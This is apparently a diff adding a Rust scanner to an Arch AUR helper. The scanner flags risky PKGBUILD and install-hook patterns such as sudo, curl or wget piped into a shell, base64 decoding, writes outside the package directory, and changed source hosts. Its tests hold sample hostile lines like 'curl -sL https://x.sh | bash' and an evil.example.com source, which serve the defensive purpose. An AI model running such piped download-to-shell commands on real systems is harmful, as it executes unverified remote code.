@@ -0,0 +1,498 @@
+use crate::config::Config;
+use crate::parser::PackageMetaData;
+use crate::pkgname::PkgName;
+use anyhow::Result;
+use colored::*;
+use std::collections::HashSet;
+use std::fmt;
+use std::path::Path;
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Severity {
+    Low,
+    Medium,
+    High,
+}
+
+impl fmt::Display for Severity {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        let label = match self {
+            Severity::Low => "LOW".cyan(),
+            Severity::Medium => "MEDIUM".yellow(),
+            Severity::High => "HIGH".red().bold(),
+        };
+        write!(f, "{}", label)
+    }
+}
+
+#[derive(Debug)]
+pub struct Finding {
+    pub severity: Severity,
+    /// File name and line, e.g. "PKGBUILD:42" or ".SRCINFO"
+    pub location: String,
+    pub message: String,
+}
+
+/// Kind of shell script a line comes from
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Script {
+    /// Runs as the build user; should only touch `$pkgdir` and `$srcdir`
+    Pkgbuild,
+    /// `.install` hooks run as root on the target system, where writing
+    /// to system paths is their purpose
+    Install,
+}
+
+/// Commands that write to the path given as their last argument
+const DEST_WRITERS: &[&str] = &["cp", "mv", "install", "ln", "rsync"];
+/// Commands that modify every path they are given
+const PATH_WRITERS: &[&str] = &[
+    "rm", "mkdir", "touch", "chmod", "chown", "tee", "truncate", "rmdir",
+];
+const SHELLS: &[&str] = &[
+    "sh", "bash", "zsh", "dash", "ksh", "fish", "python", "python3", "perl",
+];
+/// Paths that are fine to write to from a PKGBUILD
+const SAFE_PATHS: &[&str] = &["/dev/null", "/dev/stdout", "/dev/stderr", "/tmp/"];
+const VCS_PREFIXES: &[&str] = &["git+", "git://", "hg+", "svn+", "bzr+", "fossil+", "darcs+"];
+
+/// Scan a single line of shell code from a PKGBUILD or install script
+pub fn scan_line(line: &str, script: Script) -> Vec<(Severity, String)> {
+    let mut findings = Vec::new();
+    let trimmed = line.trim();
+    if trimmed.is_empty() || trimmed.starts_with('#') {
+        return findings;
+    }
+
+    // Whether an earlier command of the current pipeline downloads something
+    let mut pipeline_downloads = false;
+
+    for (piped, segment) in split_commands(trimmed) {
+        if !piped {
+            pipeline_downloads = false;
+        }
+        let words: Vec<&str> = segment
+            .split_whitespace()
+            .map(|w| w.trim_matches(|c| c == '"' || c == '\'' || c == '(' || c == ')'))
+            .collect();
+        let Some(&cmd) = words.first() else {
+            continue;
+        };
+
+        if cmd == "sudo" {
+            findings.push((Severity::High, "Uses sudo".to_string()));
+        }
+
+        if piped && pipeline_downloads && SHELLS.contains(&cmd) {
+            findings.push((
+                Severity::High,
+                "Pipes downloaded content into a shell or interpreter".to_string(),
+            ));
+        }
+        if cmd == "curl" || cmd == "wget" {
+            pipeline_downloads = true;
+        }
+
+        if cmd == "base64" && words.iter().any(|w| *w == "-d" || *w == "--decode") {
+            findings.push((Severity::High, "Decodes base64 data".to_string()));
+        }
+
+        let args = &words[1..];
+        let targets: Vec<&str> = if DEST_WRITERS.contains(&cmd) {
+            args.iter()
+                .rev()
+                .find(|a| !a.starts_with('-'))
+                .copied()
+                .into_iter()
+                .collect()
+        } else if PATH_WRITERS.contains(&cmd) {
+            args.iter()
+                .filter(|a| !a.starts_with('-'))
+                .copied()
+                .collect()
+        } else {
+            vec![]
+        };
+        for target in targets {
+            if !is_outside_path(target) {
+                continue;
+            }
+            findings.push(match script {
+                Script::Pkgbuild => (
+                    Severity::High,
+                    format!("'{}' writes outside $pkgdir/$srcdir: {}", cmd, target),
+                ),
+                Script::Install => (Severity::Low, format!("'{}' modifies {}", cmd, target)),
+            });
+        }
+
+        // Redirections: `> /etc/foo`, `>>/etc/foo`
+        for (j, word) in words.iter().enumerate() {
+            if let Some(rest) = word.strip_prefix(">>").or_else(|| word.strip_prefix('>')) {
+                let target = if rest.is_empty() {
+                    words.get(j + 1).copied().unwrap_or_default()
+                } else {
+                    rest
+                };
+                if !is_outside_path(target) {
+                    continue;
+                }
+                findings.push(match script {
+                    Script::Pkgbuild => (
+                        Severity::High,
+                        format!("Redirects output outside $pkgdir/$srcdir: {}", target),
+                    ),
+                    Script::Install => (Severity::Low, format!("Redirects output to {}", target)),
+                });
+            }
+        }
+    }
+
+    if trimmed
+        .split(|c: char| c.is_whitespace() || c == '"' || c == '\'')
+        .any(is_base64_blob)
+    {
+        findings.push((
+            Severity::Medium,
+            "Contains what looks like an embedded base64 blob".to_string(),
+        ));
+    }
+
+    findings
+}
+
+/// Split a line into commands on `;`, `&`, `&&`, `||` and `|`, along with
+/// whether each command reads the output of the previous one through a pipe
+fn split_commands(line: &str) -> Vec<(bool, &str)> {
+    let bytes = line.as_bytes();
+    let mut commands = Vec::new();
+    let mut start = 0;
+    let mut piped = false;
+    let mut i = 0;
+    while i < bytes.len() {
+        let next = bytes.get(i + 1);
+        let separator = match bytes[i] {
+            b'|' if next == Some(&b'|') => Some((2, false)),
+            b'|' if next == Some(&b'&') => Some((2, true)),
+            b'|' => Some((1, true)),
+            // `2>&1` and `<&3` are redirections, not separators
+            b'&' if i > 0 && matches!(bytes[i - 1], b'>' | b'<') => None,
+            b'&' if next == Some(&b'&') => Some((2, false)),
+            b'&' | b';' => Some((1, false)),
+            _ => None,
+        };
+        match separator {
+            Some((len, pipe)) => {
+                commands.push((piped, &line[start..i]));
+                piped = pipe;
+                i += len;
+                start = i;
+            }
+            None => i += 1,
+        }
+    }
+    commands.push((piped, &line[start..]));
+    commands
+}
+
+fn is_outside_path(path: &str) -> bool {
+    path.starts_with('/') && !SAFE_PATHS.iter().any(|safe| path.starts_with(safe))
+}
+
+fn is_base64_blob(word: &str) -> bool {
+    word.len() >= 80
+        && word
+            .chars()
+            .all(|c| c.is_ascii_alphanumeric() || c == '+' || c == '/' || c == '=')
+        // Checksums are hex only, don't flag them
+        && !word.chars().all(|c| c.is_ascii_hexdigit())
+}
+
+fn is_vcs_source(url: &str) -> bool {
+    VCS_PREFIXES.iter().any(|p| url.starts_with(p))
+}
+
+/// Whether the `source=` entry is fetched from a version control system
+pub fn is_vcs(source: &str) -> bool {
+    is_vcs_source(source_url(source))
+}
+
+/// Strip the `name::` prefix of a `source=` entry
+fn source_url(source: &str) -> &str {
+    source.split_once("::").map_or(source, |(_, url)| url)
+}
+
+/// Extract the host of a remote source URL, `None` for local files
+pub fn source_host(source: &str) -> Option<String> {
+    let url = source_url(source);
+    let (_, rest) = url.split_once("://")?;
+    let authority = rest.split(['/', '?', '#']).next()?;
+    let host = authority.rsplit('@').next()?;
+    let host = host.split(':').next()?;
+    Some(host.to_lowercase())
+}
+
+/// Checks based on the `.SRCINFO` metadata, compared to the last reviewed version
+fn scan_metadata(
+    current: &PackageMetaData,
+    previous: Option<&PackageMetaData>,
+) -> Vec<(Severity, String)> {
+    let mut findings = Vec::new();
+
+    for (source, checksum) in current.sources.iter().zip(&current.checksums) {
+        let url = source_url(source);
+
+        if url.starts_with("http://") {
+            findings.push((
+                Severity::Medium,
+                format!("Insecure http:// source: {}", url),
+            ));
+        }
+
+        let is_signature = [".sig", ".asc", ".sign"]
+            .iter()
+            .any(|ext| url.ends_with(ext));
+        if checksum == "SKIP" && url.contains("://") && !is_vcs_source(url) && !is_signature {
+            findings.push((
+                Severity::Medium,
+                format!("Checksum is SKIP for non-VCS source: {}", url),
+            ));
+        }
+    }
+
+    match previous {
+        Some(previous) => {
+            let old_hosts: HashSet<String> = previous
+                .sources
+                .iter()
+                .filter_map(|s| source_host(s))
+                .collect();
+            let mut new_hosts: Vec<String> = current
+                .sources
+                .iter()
+                .filter_map(|s| source_host(s))
+                .filter(|h| !old_hosts.contains(h))
+                .collect();
+            new_hosts.sort();
+            new_hosts.dedup();
+            for host in new_hosts {
+                findings.push((
+                    Severity::High,
+                    format!("Source host changed since last review: {}", host),
+                ));
+            }
+
+            for install in &current.install {
+                if !previous.install.contains(install) {
+                    findings.push((
+                        Severity::High,
+                        format!("New install hook since last review: {}", install),
+                    ));
+                }
+            }
+        }
+        None => {
+            for install in &current.install {
+                findings.push((Severity::Low, format!("Runs install hook: {}", install)));
+            }
+        }
+    }
+
+    findings
+}
+
+/// Scan the PKGBUILD, `.install` files and `.SRCINFO` of the clone at `cache_path`
+pub fn scan_package(cache_path: &Path) -> Result<Vec<Finding>> {
+    let mut findings = Vec::new();
+
+    for file in crate::review::review_files(cache_path)? {
+        let name = file
+            .file_name()
+            .unwrap_or_default()
+            .to_string_lossy()
+            .to_string();
+        let Ok(content) = std::fs::read_to_string(&file) else {
+            continue;
+        };
+        let script = if name == "PKGBUILD" {
+            Script::Pkgbuild
+        } else {
+            Script::Install
+        };
+        for (idx, line) in content.lines().enumerate() {
+            for (severity, message) in scan_line(line, script) {
+                findings.push(Finding {
+                    severity,
+                    location: format!("{}:{}", name, idx + 1),
+                    message,
+                });
+            }
+        }
+    }
+
+    let current = crate::parser::parse_srcinfo(cache_path)?;
+    let previous = crate::git_ops::read_reviewed_file(cache_path, ".SRCINFO")
+        .and_then(|content| crate::parser::parse_srcinfo_str(&content).ok());
+    for (severity, message) in scan_metadata(&current, previous.as_ref()) {
+        findings.push(Finding {
+            severity,
+            location: ".SRCINFO".to_string(),
+            message,
+        });
+    }
+
+    findings.sort_by_key(|f| std::cmp::Reverse(f.severity));
+    Ok(findings)
+}
+
+/// Scan every package in the build order and print the findings. With
+/// `--noconfirm`, high-severity findings abort if `scan_blocks_noconfirm` is set.
+pub fn check_packages(build_order: &[PkgName], config: &Config) -> Result<()> {
+    if build_order.is_empty() {
+        return Ok(());
+    }
+
+    println!(
+        "\n{}",
+        ":: Scanning PKGBUILDs for risky patterns...".blue().bold()
+    );
+
+    let mut blocked = Vec::new();
+    for pkgbase in build_order {
+        let findings = match scan_package(&config.get_cache_dir().join(pkgbase)) {
+            Ok(findings) => findings,
+            Err(e) => {
+                eprintln!("{} Failed to scan {}: {:#}", "!!".yellow(), pkgbase, e);
+                continue;
+            }
+        };
+
+        if findings.is_empty() {
+            continue;
+        }
+
+        println!("   {}", pkgbase.bold());
+        for finding in &findings {
+            println!(
+                "      [{}] {} {}",
+                finding.severity,
+                finding.location.dimmed(),
+                finding.message
+            );
+        }
+
+        if findings.iter().any(|f| f.severity == Severity::High) {
+            blocked.push(pkgbase.clone());
+        }
+    }
+
+    if blocked.is_empty() {
+        println!("   {}", "No risky patterns found.".green());
+    } else if config.no_confirm && config.scan_blocks_noconfirm {
+        anyhow::bail!(
+            "High-severity findings in {} (refusing to build with --noconfirm)",
+            blocked.join(", ")
+        );
+    }
+
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn severities(line: &str) -> Vec<Severity> {
+        scan_line(line, Script::Pkgbuild)
+            .into_iter()
+            .map(|(s, _)| s)
+            .collect()
+    }
+
+    #[test]
+    fn test_scan_line() {
+        assert_eq!(
+            severities("curl -sL https://x.sh | bash"),
+            vec![Severity::High]
+        );
+        assert_eq!(severities("  sudo make install"), vec![Severity::High]);
+        assert_eq!(
+            severities("echo foo > /etc/profile.d/foo.sh"),
+            vec![Severity::High]
+        );
+        assert_eq!(severities("rm -rf /usr/lib/foo"), vec![Severity::High]);
+        assert_eq!(
+            severities("echo aGk= | base64 -d > x"),
+            vec![Severity::High]
+        );
+
+        assert!(severities("# curl https://x.sh | sh").is_empty());
+        assert!(severities("install -Dm755 foo \"$pkgdir/usr/bin/foo\"").is_empty());
+        assert!(severities("ln -s /usr/lib/foo/foo \"$pkgdir\"/usr/bin/foo").is_empty());
+        assert!(severities("make >/dev/null 2>&1").is_empty());
+        assert!(severities("cd \"$srcdir/foo\" && make").is_empty());
+
+        // Only an actual pipe from curl/wget into a shell counts
+        assert_eq!(
+            severities("wget -qO- https://x.sh | tee log |& sh"),
+            vec![Severity::High]
+        );
+        assert!(severities("curl -o x.sh https://x.sh && bash x.sh").is_empty());
+        assert!(severities("curl -fO https://x || bash fallback.sh").is_empty());
+        assert!(severities("wget https://x; cat x.sh | sh").is_empty());
+        assert!(severities("echo curl | grep -q sh").is_empty());
+    }
+
+    #[test]
+    fn test_scan_install_script() {
+        let install = |line| {
+            scan_line(line, Script::Install)
+                .into_iter()
+                .map(|(s, _)| s)
+                .collect::<Vec<_>>()
+        };
+        assert_eq!(install("rm -f /usr/share/foo/cache"), vec![Severity::Low]);
+        assert_eq!(install("echo foo >> /etc/shells"), vec![Severity::Low]);
+        assert_eq!(install("curl https://x.sh | sh"), vec![Severity::High]);
+        assert_eq!(install("sudo systemctl enable foo"), vec![Severity::High]);
+    }
+
+    #[test]
+    fn test_source_host() {
+        assert_eq!(
+            source_host("foo::git+https://github.com/a/b.git#branch=x"),
+            Some("github.com".to_string())
+        );
+        assert_eq!(
+            source_host("https://user@Example.org:8080/foo.tar.gz"),
+            Some("example.org".to_string())
+        );
+        assert_eq!(source_host("foo.patch"), None);
+    }
+
+    #[test]
+    fn test_scan_metadata() {
+        let previous = PackageMetaData {
+            sources: vec!["https://github.com/a/b/archive/v1.tar.gz".to_string()],
+            checksums: vec!["abc".to_string()],
+            ..Default::default()
+        };
+        let current = PackageMetaData {
+            sources: vec![
+                "http://evil.example.com/b.tar.gz".to_string(),
+                "git+https://github.com/a/b.git".to_string(),
+            ],
+            checksums: vec!["SKIP".to_string(), "SKIP".to_string()],
+            install: vec!["b.install".to_string()],
+            ..Default::default()
+        };
+
+        let findings = scan_metadata(&current, Some(&previous));
+        let messages: Vec<&str> = findings.iter().map(|(_, m)| m.as_str()).collect();
+        assert_eq!(findings.len(), 4, "{:?}", messages);
+        assert!(messages.iter().any(|m| m.contains("http://")));
+        assert!(messages.iter().any(|m| m.contains("SKIP")));
+        assert!(messages.iter().any(|m| m.contains("evil.example.com")));
+        assert!(messages.iter().any(|m| m.contains("b.install")));
+    }
+}